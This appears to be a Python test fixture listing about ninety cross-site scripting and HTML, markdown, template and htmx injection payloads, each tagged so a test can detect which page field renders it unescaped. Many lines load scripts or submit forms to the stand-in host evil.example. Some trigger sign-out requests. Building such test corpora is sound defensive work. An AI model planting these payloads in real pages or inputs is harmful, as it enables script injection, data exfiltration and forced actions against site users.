"""Texts that would run a script, call a foreign host or change a page, if a page let them.

Each calls ``xss('<name>')``, which the watch counts, or asks ``evil.example``, which it sees.
"""

from collections.abc import Iterator
from dataclasses import dataclass

__all__ = ["PAYLOADS", "Payload"]

_HOST = "https://evil.example"

# NAME stands for the payload's own name, HOST for the foreign one.
_TEXTS = (
    # Scripts
    "<script>xss('NAME')</script>",
    "<ScRiPt >xss('NAME')</sCrIpT>",
    "<script src=HOST/NAME.js></script>",
    "<script type=module>import 'HOST/NAME.js'</script>",
    "</script><script>xss('NAME')</script>",
    "</textarea></title></style><script>xss('NAME')</script>",
    "--><script>xss('NAME')</script><!--",
    "<!-- unclosed comment NAME",
    "<![CDATA[<script>xss('NAME')</script>]]>",
    "'\"><script>xss('NAME')</script>",
    "<scr<script>ipt>xss('NAME')</scr</script>ipt>",
    # Event handlers
    "<img src=x onerror=xss('NAME')>",
    "<img src=HOST/NAME.png>",
    "<img srcset='HOST/NAME.png 1x'>",
    "<IMG SRC=x OnErRoR=\"xss('NAME')\">",
    "\" onmouseover=\"xss('NAME')\" autofocus onfocus=\"xss('NAME')",
    "' onfocus='xss(\"NAME\")' autofocus='",
    "x` onerror=`xss('NAME')",
    "<body onload=xss('NAME')>",
    "<details open ontoggle=xss('NAME')>",
    "<input autofocus onfocus=xss('NAME')>",
    "<video><source onerror=xss('NAME')></video>",
    "<audio src=HOST/NAME.mp3 autoplay onerror=xss('NAME')>",
    "<marquee onstart=xss('NAME')>",
    "<a href=# onclick=xss('NAME') accesskey=x>click</a>",
    "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=xss('NAME')>",
    # SVG and MathML
    "<svg onload=xss('NAME')>",
    "<svg><script>xss('NAME')</script></svg>",
    "<svg><animate onbegin=xss('NAME') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:xss('NAME')\"><text>x</text></a></svg>",
    "<svg><use href='HOST/NAME.svg#x'></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss('NAME')>",
    "<math href=\"javascript:xss('NAME')\">x</math>",
    # Frames, objects, documents
    "<iframe srcdoc=\"<script>parent.xss('NAME')</script>\"></iframe>",
    "<iframe src=\"javascript:parent.xss('NAME')\"></iframe>",
    "<iframe src=HOST/NAME></iframe>",
    "<object data=HOST/NAME></object>",
    "<embed src=HOST/NAME>",
    "<base href=HOST/NAME/>",
    "<meta http-equiv=refresh content='0;url=HOST/NAME'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">NAME",
    "<link rel=stylesheet href=HOST/NAME.css>",
    "<link rel=prefetch href=HOST/NAME>",
    "<style>*{background:url(HOST/NAME.png)}</style>",
    "<div style=\"background:url('HOST/NAME.png')\">",
    "<template><script>xss('NAME')</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=xss('NAME')>\"></noscript>",
    "<plaintext>NAME",
    # Forms
    "<form action=HOST/NAME method=post><button autofocus>Sign in</button></form>",
    "</form><form id=filters action=HOST/NAME>",
    "<button form=filters formaction=HOST/NAME>Apply</button>",
    # htmx
    "<div hx-get=HOST/NAME hx-trigger=load></div>",
    "<div data-hx-get='/sign-out/' data-hx-trigger=load>NAME</div>",
    "<div hx-on:click=\"xss('NAME')\" hx-on::load=\"xss('NAME')\">",
    "\" hx-get=\"HOST/NAME\" hx-trigger=\"load",
    "<b hx-post=/account/sign-out-everywhere/ hx-trigger=load>NAME</b>",
    "<p hx-swap-oob=outerHTML:body>NAME</p>",
    "<i id=results hx-vals='js:{a:xss(\"NAME\")}'>",
    # Markdown
    "[click](javascript:xss('NAME'))",
    "[click](<javascript&#58;xss('NAME')>)",
    "[click](JaVaScRiPt:xss%28'NAME'%29)",
    "[click](data:text/html;base64,PHNjcmlwdD54c3MoJ0tFWScpPC9zY3JpcHQ+ 'NAME')",
    "[click](vbscript:xss('NAME'))",
    "![picture](HOST/NAME.png)",
    "![picture][NAME]\n\n[NAME]: HOST/NAME.png",
    "<javascript:xss('NAME')>",
    "<HOST/NAME>",
    "[a](HOST/NAME \"onmouseover=xss('NAME')\")",
    "```html\n<script>xss('NAME')</script>\n```",
    "| a |\n| --- |\n| <img src=x onerror=xss('NAME')> |\n",
    "javascript:xss('NAME')//",
    "data:text/html,<script>xss('NAME')</script>",
    "//evil.example/NAME",
    # Templates, and text that another layer could read as its own
    "{{ 7*7 }}{% debug %}{% include 'NAME' %}",
    "${xss('NAME')}#{xss('NAME')}<%= xss('NAME') %>",
    "&lt;script&gt;xss('NAME')&lt;/script&gt;",
    "&#60;img src=x onerror=xss('NAME')&#62;",
    "%3Cscript%3Exss('NAME')%3C/script%3E",
    "\\u003cscript\\u003exss('NAME')\\u003c/script\\u003e",
    "=HYPERLINK(\"HOST/NAME\")",
    # Names that a page's own scripts look up
    "<a id=main name=main></a><img name=body><form name=documentElement>NAME",
    "<p id=__proto__ data-go=s data-key=n data-row data-help>NAME",
    "__proto__",
    # Control characters
    "\x1b]8;;javascript:xss('NAME')\x07link\x1b]8;;\x07 \x1b[31mred\x1b[2J",
    "\u202e)'NAME'(ssx>tpircs<\u202c \u2066isolate\u2069",
    "<scr\x00ipt>xss('NAME')</scr\x00ipt>",
    "<img src=x\x0conerror=xss('NAME')>",
    "\ufeff<script>xss('NAME')</script>\u200b\u2028\u2029",
    "+ADw-script+AD4-xss('NAME')+ADw-/script+AD4-",
)  # fmt: skip


@dataclass(frozen=True)
class Payload:
    """One text, and its number, from which the marks of the places that hold it are made."""

    number: int
    text: str

    def mark(self, field: str) -> str:
        """Return the word that shows where a page drew this payload's value of a field."""
        return f"k{self.number:02}{field}"

    def behind(self, field: str) -> str:
        """Return the payload with its mark behind it."""
        return f"{self.text} {self.mark(field)}"

    def before(self, field: str) -> str:
        """Return the payload with its mark before it."""
        return f"{self.mark(field)} {self.text}"


def _payloads() -> Iterator[Payload]:
    for number, text in enumerate(_TEXTS):
        yield Payload(number, text.replace("NAME", f"k{number:02}").replace("HOST", _HOST))


PAYLOADS = tuple(_payloads())
